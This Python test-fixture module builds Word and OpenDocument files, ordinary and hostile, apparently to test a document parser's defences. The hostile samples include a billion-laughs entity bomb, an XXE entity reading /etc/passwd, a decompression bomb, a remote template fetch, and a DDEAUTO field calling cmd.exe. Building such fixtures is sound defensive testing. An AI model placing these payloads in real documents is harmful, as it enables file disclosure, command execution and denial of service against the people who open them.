"""Documents of Word and open ones, made part by part: ordinary ones and ones that mean harm."""

from collections.abc import Mapping, Sequence
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

from tests.documents.samples import MACROS, MAIN, ODT, TYPES, packed, put

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCUMENT = "word/document.xml"
OPEN = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def types(main: str = MAIN) -> bytes:
    """What the parts of a document are."""
    return (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{DOCUMENT}" ContentType="{main}"/></Types>'
    ).encode()


def relations(*each: tuple[str, str, bool]) -> bytes:
    """Relations of a part: their kinds, their targets, whether these are outside."""
    inside = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"'
        f"{' TargetMode=' + chr(34) + 'External' + chr(34) if outside else ''}/>"
        for number, (kind, target, outside) in enumerate(each)
    )
    return f'<Relationships xmlns="{RELATIONS}">{inside}</Relationships>'.encode()


def body(inside: str) -> bytes:
    """The main part of a document of Word."""
    return f'<?xml version="1.0"?><w:document {W}><w:body>{inside}</w:body></w:document>'.encode()


def paragraph(text: str) -> str:
    """A paragraph of Word."""
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def table(*rows: Sequence[str]) -> str:
    """A table of Word."""
    cells = ("".join(f"<w:tc>{paragraph(cell)}</w:tc>" for cell in row) for row in rows)
    return "<w:tbl>" + "".join(f"<w:tr>{row}</w:tr>" for row in cells) + "</w:tbl>"


def a_docx(inside: str = paragraph("Labdien!"), more: Mapping[str, bytes] | None = None, main: str = MAIN) -> bytes:
    """A document of Word with this inside its body, and further parts."""
    return packed(
        {
            TYPES: types(main),
            "_rels/.rels": relations(("officeDocument", DOCUMENT, False)),
            DOCUMENT: body(inside),
            **(more or {}),
        },
        ZIP_DEFLATED,
    )


def an_odt(inside: str, more: Mapping[str, bytes] | None = None) -> bytes:
    """An open document with this inside its text."""
    content = (
        f'<?xml version="1.0"?><office:document-content {OPEN}><office:body><office:text>{inside}</office:text>'
        "</office:body></office:document-content>"
    ).encode()
    out = BytesIO()
    with ZipFile(out, "w") as container:
        put(container, "mimetype", ODT, ZIP_STORED)
        for name, part in {"content.xml": content, **(more or {})}.items():
            put(container, name, part)
    return out.getvalue()


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + f"]><w:document {W}><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>".encode()
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    + f"<w:document {W}><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>".encode()
)

WITH_MACROS = a_docx(more={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60})
CALLED_WITH_MACROS = a_docx(main=MACROS)
WITH_LAUGHS = a_docx(more={DOCUMENT: LAUGHS})
WITH_EXTERNAL_ENTITY = a_docx(more={DOCUMENT: EXTERNAL_ENTITY})
WITH_LAUGHS_IN_UTF_16 = a_docx(more={DOCUMENT: LAUGHS.decode().encode("utf-16")})
BOMB = a_docx(more={DOCUMENT: body(paragraph("A" * 40_000_000))})
WITH_REMOTE_TEMPLATE = a_docx(
    more={"word/_rels/settings.xml.rels": relations(("attachedTemplate", "http://198.51.100.1/a.dotm", True))}
)
WITH_REMOTE_PICTURE = a_docx(
    more={"word/_rels/document.xml.rels": relations(("image", "http://198.51.100.1/a.png", True))}
)
WITH_LINK = a_docx(more={"word/_rels/document.xml.rels": relations(("hyperlink", "https://example.lv/", True))})
WITH_OBJECT = a_docx(more={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"})
WITH_FETCHING_FIELD = a_docx('<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k"</w:instrText></w:r></w:p>')
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENCRYPTED = OLE + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 512
OLD_WORD = OLE + b"\x00" * 504 + "WordDocument".encode("utf-16-le") + b"\x00" * 512

ODT_WITH_MACROS = an_odt("<text:p>Labdien!</text:p>", {"Basic/Standard/Module1.xml": b"<x/>"})
ODT_ENCRYPTED = an_odt(
    "",
    {
        "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<m:file-entry m:full-path="content.xml"><m:encryption-data/></m:file-entry></m:manifest>'
    },
)
ODT_WHOLLY_ENCRYPTED = packed(
    {
        "mimetype": ODT,
        "encrypted-package": b"\x01\x02",
        "META-INF/manifest.xml": b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<m:file-entry m:full-path="encrypted-package"><m:encryption-data/></m:file-entry></m:manifest>',
    }
)
